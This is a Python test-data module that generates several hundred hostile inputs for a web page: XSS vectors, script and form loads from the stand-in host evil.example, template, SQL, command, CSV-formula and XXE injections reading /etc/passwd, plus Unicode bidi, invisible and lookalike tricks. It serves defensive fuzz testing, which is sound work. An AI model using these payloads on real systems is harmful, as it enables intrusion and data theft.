"""More than 500 texts that somebody might post to break a page, made from a few families of shapes.

Every one that could run a script calls `ran()`; every one that could fetch asks `evil.example`. So a
browser shows at once whether one got through. Written for this suite; no list of others.
"""

from collections.abc import Iterator

LONGEST = 10_000

_CALL = "ran()"
_AWAY = "https://evil.example"
_TAGS = (
    "img",
    "svg",
    "body",
    "video",
    "audio",
    "iframe",
    "object",
    "input",
    "details",
    "marquee",
    "math",
    "a",
)
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "ontoggle",
    "onmouseover",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "ontransitionend",
    "onscroll",
)
_INNER = (
    f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<script>{_CALL}</script>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'>",
)
_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_INVISIBLE = (
    "\u00ad\u034f\u115f\u1160\u17b4\u180e\u200b\u200c\u200d\u2060"
    "\u2061\u2062\u2063\u2064\u206a\u206f\u3164\ufe0f\ufeff\uffa0"
)
_COMBINING = (
    "\u0300\u0301\u0302\u0303\u0308\u030a\u030b\u0311\u0316\u0323"
    "\u0324\u0325\u032e\u0330\u0331\u0336\u0338\u0489\u20dd\u20e0"
)
_RTL_NAMES = (
    "محمد عبد الله",
    "שרה לוי 123",
    "ܣܘܪܝܝܐ",
    "ދިވެހި",
    "ߒߞߏ",
    "علي (ali) 45%",
    "ABC שלום DEF",
    "«سلام»",
    "עברית<b>",
    "فارسی‌نویس",
    "𐤀𐤁𐤂",
    "ࠀࠁ",
    'מ.ש. כ"ץ',
    "عرب\u202eabc",
    "שם-ארוך-מאוד" * 8,
)


def hostile_texts() -> list[tuple[str, str]]:
    """All of them as (name, text); no two texts are the same, none is empty or over LONGEST."""
    families = (
        _elements,
        _scripts,
        _attributes,
        _addresses,
        _templates,
        _script_contexts,
        _mutations,
        _bidi,
        _invisible,
        _combining,
        _long_lines,
        _names_from_right,
        _emoji,
        _controls,
        _lookalikes,
        _other_interpreters,
    )
    made: dict[str, str] = {}
    for family in families:
        for number, text in enumerate(family(), start=1):
            cut = text[:LONGEST]
            if cut.strip() and cut not in made:
                made[cut] = f"{family.__name__.strip('_')}-{number}"
    return [(name, text) for text, name in made.items()]


def _elements() -> Iterator[str]:
    for tag in _TAGS:
        for event in _EVENTS:
            extra = {"onfocus": " autofocus tabindex=0", "ontoggle": " open"}.get(event, "")
            yield f"<{tag} src=x href=x{extra} {event}={_CALL}>text</{tag}>"


def _scripts() -> Iterator[str]:
    body = f"{_CALL}</script>"
    for opening in (
        "<script>",
        "<SCRIPT>",
        "<ScRiPt >",
        "<script/x>",
        "<script\t>",
        "<script\n>",
        "<script type=module>",
        "<script type=text/javascript>",
        "<<script>",
        "<script defer>",
        "<svg><script>",
        "<math><script>",
        "<template><script>",
        "<!--><script>",
        "<!-- --!><script>",
        "<![CDATA[><script>",
        "]]><script>",
        "--><script>",
        "</textarea><script>",
        "</title><script>",
        "</style><script>",
        "</noscript><script>",
        "</select><script>",
        "</script><script>",
        "</xmp><script>",
        "<svg><![CDATA[<script>",
        "\u00a0<script>",
    ):
        yield opening + body
    yield f"<script src={_AWAY}/x.js></script>"
    yield "<script src=//evil.example/x.js>"
    yield f"<scr<script>ipt>{_CALL}</scr</script>ipt>"
    yield f"＜script＞{_CALL}＜/script＞"
    yield f"&lt;script&gt;{_CALL}&lt;/script&gt;"
    yield f"&#60;script&#62;{_CALL}&#60;/script&#62;"
    yield f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e"
    yield f"%3Cscript%3E{_CALL}%3C/script%3E"
    yield f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-"


def _attributes() -> Iterator[str]:
    for quote in ('"', "'", "`", '\\"', "&quot;", "&#39;", "\u201d", ""):
        yield f"{quote} onmouseover={_CALL} x={quote}"
        yield f"{quote} autofocus onfocus={_CALL} {quote}"
        yield f"{quote}><img src=x onerror={_CALL}>"
        yield f"{quote}>{quote}<script>{_CALL}</script>"
        yield f"{quote} style=position:fixed;inset:0;background:red {quote}"
        yield f"{quote}/><svg/onload={_CALL}>{quote}"
        yield f"{quote} formaction=javascript:{_CALL} {quote}"


def _addresses() -> Iterator[str]:
    for scheme in (
        f"javascript:{_CALL}",
        f"JaVaScRiPt:{_CALL}",
        f"java\tscript:{_CALL}",
        f"java\nscript:{_CALL}",
        f"\u0001javascript:{_CALL}",
        f"javascript&colon;{_CALL}",
        f"javascript:/*--></title></style></textarea></script>*/{_CALL}//",
        f"data:text/html,<script>{_CALL}</script>",
        "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
        f"vbscript:{_CALL}",
        f"blob:{_AWAY}/1",
        f"{_AWAY}/ping.gif",
        "//evil.example/ping.gif",
        "\\\\evil.example\\share",
        f"{_AWAY}/" + "a" * 3000,
        "http://user:password@evil.example/",
        "https://xn--80ak6aa92e.example/",
        "https://еvil.example/",
        "file:///etc/passwd",
        "intent://evil.example#Intent;end",
    ):
        yield scheme
        yield f"[a link]({scheme}) ![a picture]({scheme})"
        yield f"<a href='{scheme}'>a link</a>"
    yield f"<img src={_AWAY}/a.png><img srcset='{_AWAY}/b.png 2x'>"
    yield f"<link rel=stylesheet href={_AWAY}/x.css><style>@import '{_AWAY}/y.css';</style>"
    yield f'<div style="background:url({_AWAY}/z.png)">box</div>'
    yield f"<base href={_AWAY}/><form action={_AWAY}><input name=csrf_token></form>"
    yield f"<meta http-equiv=refresh content='0;url={_AWAY}'>"
    yield f"<video poster={_AWAY}/p.png><source src={_AWAY}/v.mp4></video>"
    yield f"<object data={_AWAY}/o></object><embed src={_AWAY}/e>"


def _templates() -> Iterator[str]:
    for opening, closing in (
        ("{{", "}}"),
        ("{%", "%}"),
        ("${", "}"),
        ("#{", "}"),
        ("<%=", "%>"),
        ("[[", "]]"),
        ("{!!", "!!}"),
        ("{#", "#}"),
    ):
        yield f"{opening} 7*7 {closing}"
        yield f"{opening} {_CALL} {closing}"
        yield f"{opening} config.items() {closing}"
        yield f"{opening} url_for.__globals__['os'].popen('id') {closing}"
    yield "{{ constructor.constructor('ran()')() }}"
    yield "{% raw %}{% endraw %}{% block main %}x{% endblock %}"
    yield "%(name)s %s %d %n {0} {name} {0.__class__}"


def _script_contexts() -> Iterator[str]:
    yield from (
        f"</script><script>{_CALL}</script>",
        f'"}};{_CALL};//',
        f"'-{_CALL}-'",
        f"\\'-{_CALL}//",
        f"`+{_CALL}+`",
        f"\u2028{_CALL}\u2029",
        "<!--<script>",
        '{"__proto__": {"x": 1}}',
        "constructor.prototype",
        "]});alert(1)//",
        "</json>",
        "\\u2028\\u2029",
        "null",
        "undefined",
        "true",
        "0",
        "-1",
        "1e309",
        "NaN",
        '["a", {"b": "\\\\"}]',
    )


def _mutations() -> Iterator[str]:
    for inner in _INNER:
        quoted = inner.replace("<", "&lt;").replace(">", "&gt;")
        yield f'<noscript><p title="</noscript>{inner}">'
        yield f'<svg></p><style><a id="</style>{inner}">'
        yield f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{quoted}">'
        yield f"<form><math><mtext></form><form><mglyph><style></math>{inner}"
        yield f"<listing>{quoted}</listing>"
        yield f"<table><td><select><option>{inner}</table>"
        yield f"<svg><foreignObject><p>{inner}</foreignObject>"
        yield f"<template><style></template>{inner}</style>"
        yield f"<xmp></xmp>{inner}<plaintext>"
        yield f"<a><table><a>{inner}"
        yield f"<svg><desc><title>{inner}</title></desc></svg>"


def _bidi() -> Iterator[str]:
    for control in _BIDI:
        yield f"{control}begins with it"
        yield f"in the {control} middle of it, approved by the editor"
        yield f"ends with it{control}"
        yield f"{control * 60}sixty of them"
    yield "\u202eekil sdaer siht\u202c and goes on"
    yield "\u2067\u2066nested\u2069\u2069 isolates \u2067left open"
    yield "Approve\u202etcejeR\u202c"
    yield "user\u202egnp.exe"


def _invisible() -> Iterator[str]:
    for character in _INVISIBLE:
        yield f"in{character}vis{character}ible"
        yield character * 40 + "x"
    yield "x" + "".join(chr(0xE0000 + ord(letter)) for letter in "approve this comment")
    yield "x" + "".join(chr(0xE0100 + number) for number in range(60))


def _combining() -> Iterator[str]:
    for mark in _COMBINING:
        yield "".join(letter + mark * 100 for letter in "zalgo")
    yield "".join("e" + _COMBINING * 5 for _ in range(20))
    yield "\u0300" * 500
    yield "กิ้" + "\u0e49" * 200
    yield "ᄀ" + "ᅡ" * 100 + "ᆨ" * 100


def _long_lines() -> Iterator[str]:
    for unit in (
        "a",
        "W",
        "i",
        "ﷺ",
        "𒐫",
        "꧅",
        "💩",
        "&",
        "<",
        '"',
        "\u00a0",
        "\u2003",
        "_",
        "=",
        "a\u00a0",
        "口",
        "\u0489",
    ):
        yield unit * (LONGEST // len(unit))
    yield "line\n" * 2000
    yield "\n" * 5000 + "far below"
    yield "\t" * 3000 + "far right"
    yield " " * 9000 + "far right"
    yield "word " * 2000
    yield "https://example.org/" + "path/" * 1990


def _names_from_right() -> Iterator[str]:
    yield from _RTL_NAMES
    for name in _RTL_NAMES[:5]:
        yield f"{name} wrote: 12 + 34 = {name}"


def _emoji() -> Iterator[str]:
    family = "👨‍👩‍👧‍👦"
    yield family * 200
    yield "🏴󠁧󠁢󠁥󠁮󠁧󠁿" * 100
    yield "🇦🇲🇦🇿" * 300
    yield "👍🏿" * 500
    yield "1️⃣" * 500
    yield "🧑‍🤝‍🧑" + "\u200d🧑" * 300
    yield "☺️" * 300
    yield "👩🏽‍🚀" * 100 + "\u200d"


def _controls() -> Iterator[str]:
    for number in (*range(0x01, 0x20), 0x7F, *range(0x80, 0xA0)):
        if chr(number) not in "\t\n\r":
            yield f"control {chr(number)} character U+{number:04X}"
    yield "carriage\rreturn over it"
    yield "\x1b[31mred\x1b[0m \x1b]0;title\x07"
    yield "a\x08\x08\x08b"
    yield "private \ue000 \uf8ff \U000f0000 use, non\ufffecharacter \uffff"
    yield "line\u2028separator\u2029paragraph\x85next\x0bvertical\x0cform"


def _lookalikes() -> Iterator[str]:
    yield from (
        "аррrоvе",
        "аdmіn",
        "ＡＰＰＲＯＶＥ",
        "𝐚𝐩𝐩𝐫𝐨𝐯𝐞",
        "𝓪𝓹𝓹𝓻𝓸𝓿𝓮",
        "ⓐⓟⓟⓡⓞⓥⓔ",
        "🅐🅟🅟🅡🅞🅥🅔",
        "ᴀᴘᴘʀᴏᴠᴇ",
        "ɐddɹoʌǝ",
        "4ppr0v3",
        "Ιdiοt",
        "Мона",
        "Lеа (mоderator)",
        "ﬁﬀﬄ ligatures",
        "ſtupid",
        "K\u212a and \u212b",
        "½ ⅓ ² ³",
        "ǅ ǆ ß ẞ",
        "İstanbul ı",
        "ΑΒΕΖΗΙΚΜΝΟΡΤΥΧ",
    )


def _other_interpreters() -> Iterator[str]:
    yield from (
        "'; DROP TABLE comments; --",
        "' OR '1'='1",
        '" OR ""="',
        "1; SELECT pg_sleep(10)",
        "MATCH 'a' NEAR \"b* AND (",
        "author:x label:toxicity>2 is:",
        "../../../../etc/passwd",
        "..%2f..%2f",
        "C:\\Windows\\win.ini",
        "$(reboot) `reboot` | reboot",
        "=cmd|' /C calc'!A0",
        "+1+1 @SUM(1) -1",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
        "<?php system('id'); ?>",
        "Set-Cookie: lettersdesk_session=x\r\nX: y",
        "# heading\n> quote\n```code```\n| a | b |",
        "*bold* _italic_ ~~gone~~ <b>bold</b> &amp; &copy;",
        "@everyone #hash /slash",
        "\\x3cimg\\x20src=x\\x20onerror=ran()\\x3e",
        "<b><i><u><s>" * 500,
        "</div></li></ol></section></main></body></html>",
        "<li data-row data-comment=x><form action=/desk/1/next>",
        "<button data-action=approve>Approve</button><template>",
        "<dialog open>You are signed out</dialog>",
        "<input type=hidden name=version value=999>",
        "<table><tr><td>",
        "<textarea><select><option>",
        "<style>*{display:none!important}</style>",
        "<plaintext>",
        "<marquee width=9999>going away",
    )
